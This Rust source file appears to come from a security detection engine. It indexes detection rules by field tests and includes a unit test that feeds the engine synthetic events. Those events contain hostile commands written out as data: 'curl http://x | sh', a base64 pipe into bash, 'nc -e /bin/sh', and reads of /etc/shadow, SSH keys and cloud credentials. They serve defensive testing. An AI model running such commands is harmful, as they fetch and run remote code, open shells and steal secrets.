//! Which rules an event is evaluated against. Per kind, a rule whose condition cannot hold without
//! one particular string test (a test of its top-level `and`, or the whole condition) is keyed by
//! that test's [`Slot`]: the field's group, which the event's first test on the field computes
//! anyway, names the true bits, and only the rules keyed by those are visited. The others (no such
//! test: an `or` at the top, only numeric tests, sequences) are visited on every event of the kind.
//! On an open storm most rules are keyed on `file.path` or `proc.*` tests that a path like
//! `/dev/null` fails, so few are looked at; the alerts are still produced in file order.
use super::{
    cond::Cond,
    eval::EventView,
    field_index::{FieldIndex, Memo, Slot},
    prefilter::Facts,
};

/// A rule to evaluate and the facts an event needs for it to match.
#[derive(Clone, Copy, Debug)]
pub(super) struct Entry {
    pub rule: usize,
    pub need: Facts,
}

/// The candidates of one kind.
#[derive(Debug, Default)]
pub(super) struct Candidates {
    /// Rules without a key, in file order.
    always: Vec<Entry>,
    /// Keyed rules, per field group.
    keyed: Vec<Keyed>,
}

/// The rules keyed by the bits of one field group.
#[derive(Debug)]
struct Keyed {
    group: u16,
    /// By bit: the rules that need it true.
    by_bit: Vec<Vec<Entry>>,
}

impl Candidates {
    /// Adds a rule (in file order) with the test it cannot match without, if any.
    pub(super) fn add(&mut self, entry: Entry, key: Option<Slot>) {
        let Some(slot) = key else {
            self.always.push(entry);
            return;
        };
        let i = match self.keyed.iter().position(|k| k.group == slot.group) {
            Some(i) => i,
            None => {
                self.keyed.push(Keyed {
                    group: slot.group,
                    by_bit: Vec::new(),
                });
                self.keyed.len() - 1
            }
        };
        let keyed = &mut self.keyed[i];
        let bit = usize::from(slot.bit);
        if keyed.by_bit.len() <= bit {
            keyed.by_bit.resize_with(bit + 1, Vec::new);
        }
        keyed.by_bit[bit].push(entry);
    }

    /// Into `out` (cleared): the rules this event may match, in file order — the unkeyed ones and
    /// those whose key holds, each only when the event has the facts it needs.
    pub(super) fn gather(&self, index: &FieldIndex, memo: &Memo<'_>, view: &EventView<'_>, out: &mut Vec<Entry>) {
        out.clear();
        let covered = |e: &&Entry| view.facts.covers(e.need);
        out.extend(self.always.iter().filter(covered));
        for k in &self.keyed {
            index.for_each_true(
                memo,
                k.group,
                |field| view.str_field(field),
                |bit| {
                    if let Some(rules) = k.by_bit.get(usize::from(bit)) {
                        out.extend(rules.iter().filter(covered));
                    }
                },
            );
        }
        if !self.keyed.is_empty() {
            out.sort_unstable_by_key(|e| e.rule);
        }
    }
}

/// The slot of a string test `c` cannot hold without: `c` itself, or a test of its top-level
/// `and`, answered by the field index and not negated (a negated test holds for most values, and
/// a key should be rare to hold).
pub(super) fn required_slot(c: &Cond) -> Option<Slot> {
    match c {
        Cond::Test(t) if !t.negate => t.slot,
        Cond::And(parts) => parts.iter().find_map(required_slot),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use crate::{
        enrich::synthetic::{self, Process},
        event::Family,
    };

    use super::super::{RuleSet, eval::EventView, fields::kind_of, rule::Matcher};

    /// On the shipped rules, the keyed candidates give exactly the alerts of evaluating every
    /// rule's condition on its own (no field index either), in file order; sequences, which keep
    /// state, are left out of the comparison.
    #[test]
    fn keyed_candidates_alert_as_every_rule_evaluated_alone() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
        let mut set = RuleSet::load_dir(&dir).unwrap();
        let keyed: usize = set.by_kind.iter().map(|c| c.keyed.len()).sum();
        assert!(keyed > 0, "no rule is keyed");
        let o = |p: &str, f: i32| synthetic::open(p, f);
        let sh = |cmd: &str| synthetic::exec("/bin/sh", vec!["sh".into(), "-c".into(), cmd.into()]);
        let bodies = [
            o("/dev/null", libc::O_RDONLY),
            o("/etc/shadow", libc::O_RDONLY),
            o("/etc/passwd", libc::O_WRONLY),
            o("/root/.ssh/id_rsa", libc::O_RDONLY),
            o("/home/a/.aws/credentials", libc::O_RDONLY),
            o("/etc/cron.d/x", libc::O_WRONLY | libc::O_CREAT),
            o("/proc/1/environ", libc::O_RDONLY),
            sh("curl http://x | sh"),
            sh("echo aWQK | base64 -d | bash"),
            synthetic::exec("/usr/bin/nc", vec!["nc".into(), "-e".into(), "/bin/sh".into()]),
            synthetic::exec("/tmp/payload", vec!["payload".into()]),
            synthetic::connect(Family::Inet, "169.254.169.254", 80),
            synthetic::connect(Family::Inet, "127.0.0.1", 4444),
            synthetic::mount("none", "/mnt", "proc"),
            synthetic::memfd("x"),
            synthetic::mmap("/tmp/x.so"),
        ];
        let mut alerts = 0;
        for (comm, exe) in [
            ("python3", "/usr/bin/python3"),
            ("bash", "/bin/bash"),
            ("node", "/usr/bin/node"),
        ] {
            let who = Process {
                comm: comm.into(),
                exe: exe.into(),
                agent: "a".into(),
                ancestors: vec![synthetic::ancestor(99, "/usr/bin/node")],
                ..Default::default()
            };
            for body in &bodies {
                let ev = who.event(1, body.clone());
                let Some(kind) = kind_of(&ev.event.body) else { continue };
                let alone = EventView::new(&ev, &[]);
                let want: Vec<String> = set
                    .rules
                    .iter()
                    .filter(|r| r.enabled)
                    .filter_map(|r| match &r.matcher {
                        Matcher::Condition(by_kind) => by_kind
                            .get(kind)
                            .filter(|c| c.matches(&alone))
                            .map(|_| r.meta.name.clone()),
                        Matcher::Sequence(_) => None,
                    })
                    .collect();
                let sequences: Vec<String> = set
                    .rules
                    .iter()
                    .filter(|r| matches!(r.matcher, Matcher::Sequence(_)))
                    .map(|r| r.meta.name.clone())
                    .collect();
                let got: Vec<String> = set
                    .evaluate(&ev)
                    .into_iter()
                    .map(|a| a.rule)
                    .filter(|r| !sequences.contains(r))
                    .collect();
                assert_eq!(got, want, "{ev:?}");
                alerts += got.len();
            }
        }
        assert!(alerts >= 20, "too few alerts for the comparison to mean much: {alerts}");
    }
}
